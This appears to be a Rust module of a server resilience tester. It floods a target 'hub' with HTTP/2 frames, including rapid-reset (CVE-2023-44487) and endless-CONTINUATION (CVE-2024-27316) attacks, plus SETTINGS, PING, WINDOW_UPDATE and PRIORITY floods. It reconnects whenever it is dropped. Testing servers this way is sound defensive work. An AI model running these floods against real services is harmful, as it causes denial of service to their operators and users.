//! Owns: attacks that say the same thing again and again, over few connections, as fast as the hub takes it.
//! Never: waits for an answer.

use std::{fmt, time::Duration};

use tokio::{
    task::JoinSet,
    time::{sleep, timeout},
};

use super::{
    attacker::{ANSWER_WAIT, Attacker},
    frames::{
        ACK, CANCEL, CONTINUATION, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
        call, frame, padding,
    },
    played::Played,
};

/// Connections of a flood.
const CONNECTIONS: usize = 4;
/// Frames of one write.
const AT_ONCE: u32 = 200;
/// Before a connection that the hub ended is opened again.
const PAUSE: Duration = Duration::from_millis(50);
/// Streams have odd numbers below this.
const STREAMS_END: u32 = 1 << 31;
/// Bytes of one padding header.
const PADDING_BYTES: usize = 100;
/// Padding headers that fill a frame nearly.
const PADDINGS: usize = 130;

/// The kind of frames.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// A call, and at once its end: rapid reset (CVE-2023-44487).
    Resets,
    /// Calls with as many headers as fit into a frame.
    Headers,
    /// Headers that are continued and never end (CVE-2024-27316).
    Continuations,
    /// Settings, each of which is to be answered.
    Settings,
    /// Pings, each of which is to be answered.
    Pings,
    /// Answers to pings that nobody sent.
    Pongs,
    /// Windows that become greater by a byte.
    Windows,
    /// Priorities of streams that nobody opened.
    Priorities,
}

impl fmt::Display for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Resets => "rapid resets",
            Self::Headers => "headers",
            Self::Continuations => "endless headers",
            Self::Settings => "settings",
            Self::Pings => "pings",
            Self::Pongs => "pings' answers",
            Self::Windows => "window updates",
            Self::Priorities => "priorities",
        })
    }
}

impl Flood {
    /// The counted frames.
    fn what(self) -> &'static str {
        match self {
            Self::Resets => "calls and their resets",
            Self::Headers => "calls",
            _ => "frames",
        }
    }

    /// The next frames of a connection, of which the streams from `stream` on are new; and the next new stream.
    fn frames(self, stream: u32) -> (Vec<u8>, u32) {
        let each = |frame: &dyn Fn(u32) -> Vec<u8>| (0..AT_ONCE).flat_map(frame).collect::<Vec<_>>();
        let many_headers = || {
            let paddings = (0..PADDINGS).flat_map(|_| padding(PADDING_BYTES));
            call().into_iter().chain(paddings).collect::<Vec<_>>()
        };
        match self {
            Self::Resets => {
                let call = call();
                let frames = each(&|index: u32| {
                    let stream = stream + 2 * index;
                    let mut both = frame(HEADERS, END_HEADERS, stream, &call);
                    both.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                    both
                });
                (frames, stream + 2 * AT_ONCE)
            }
            Self::Headers => {
                let call = many_headers();
                let frames = each(&|index: u32| frame(HEADERS, END_HEADERS, stream + 2 * index, &call));
                (frames, stream + 2 * AT_ONCE)
            }
            Self::Continuations => {
                let mut frames = frame(HEADERS, 0, stream, &call());
                let more = padding(PADDING_BYTES);
                frames.extend(each(&|_: u32| frame(CONTINUATION, 0, stream, &more)));
                (frames, stream)
            }
            Self::Settings => {
                // The table of headers may have 4,096 bytes: as before.
                let setting = [0, 1, 0, 0, 16, 0];
                (each(&|_: u32| frame(SETTINGS, 0, 0, &setting)), stream)
            }
            Self::Pings => (each(&|_: u32| frame(PING, 0, 0, b"flooding")), stream),
            Self::Pongs => (each(&|_: u32| frame(PING, ACK, 0, b"flooding")), stream),
            Self::Windows => (each(&|_: u32| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])), stream),
            Self::Priorities => (each(&|_: u32| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])), stream),
        }
    }
}

/// Floods until the time is over; a connection that the hub ends is opened again.
pub(super) async fn play(attacker: Attacker, flood: Flood) -> anyhow::Result<Played> {
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let attacker = attacker.clone();
        connections.spawn(async move {
            let (mut opened, mut written, mut said) = (0_u64, 0_u64, 0.0);
            while !attacker.is_over() {
                if let Ok(mut raw) = attacker.raw().await {
                    opened += 1;
                    let _ = timeout(ANSWER_WAIT, raw.taken()).await;
                    let mut stream = 1;
                    while !attacker.is_over() && stream < STREAMS_END {
                        let (frames, next) = flood.frames(stream);
                        stream = next;
                        let before = raw.written;
                        let took = raw.write(&frames).await;
                        // All frames of a write are of the same size, nearly; one may be cut.
                        let bytes = raw.written - before;
                        said += bytes as f64 / frames.len() as f64 * f64::from(AT_ONCE);
                        written += bytes;
                        if took.is_err() {
                            // What the hub said of it is on the way.
                            let _ = timeout(ANSWER_WAIT, raw.closed()).await;
                            break;
                        }
                    }
                }
                sleep(PAUSE).await;
            }
            (opened, written, said as u64)
        });
    }
    let (mut opened, mut written, mut said) = (0, 0, 0);
    while let Some(ended) = connections.join_next().await {
        let (connections, bytes, frames) = ended?;
        opened += connections;
        written += bytes;
        said += frames;
    }
    let megabytes = written as f64 / 1e6;
    let answers = &attacker.answers;
    Ok(Played {
        amount: said,
        what: flood.what(),
        met: answers.all(),
        held: None,
        words: format!("{megabytes:.1} MB in {opened} connections, {}", answers.words()),
    })
}
